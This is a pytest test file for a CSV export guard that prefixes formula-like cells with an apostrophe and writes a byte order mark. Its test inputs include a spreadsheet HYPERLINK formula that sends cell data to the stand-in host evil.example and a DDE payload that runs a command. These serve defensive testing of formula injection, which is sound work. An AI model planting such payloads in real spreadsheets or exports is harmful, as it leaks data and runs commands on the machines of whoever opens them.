"""Cells a spreadsheet would run as a formula are written as text."""

from __future__ import annotations

import csv
import io

import pytest

from leaver.core.spreadsheets import BYTE_ORDER_MARK, csv_lines, formula_safe


@pytest.mark.parametrize("typed", [
    '=HYPERLINK("http://evil.example/?"&A1, "Click")', "+1+1", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "  =1+1",
])
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(typed: str) -> None:
    assert formula_safe(typed) == "'" + typed


@pytest.mark.parametrize("typed", ["Jordan Ellis", "10.0.0.1", "2026-03-10 09:30:00",
                                   "a=b", "", "O'Brien"])
def test_other_cells_are_unchanged(typed: str) -> None:
    assert formula_safe(typed) == typed


def test_none_is_an_empty_cell() -> None:
    assert formula_safe(None) == ""


def test_lines_start_with_the_byte_order_mark_and_read_back() -> None:
    lines = list(csv_lines(["Name", "Note"], [["=cmd|' /C calc'!A0", 'say "hi", then\ngo']]))
    assert lines[0].startswith(BYTE_ORDER_MARK)
    rows = list(csv.reader(io.StringIO("".join(lines)[1:])))
    assert rows == [["Name", "Note"], ["'=cmd|' /C calc'!A0", 'say "hi", then\ngo']]
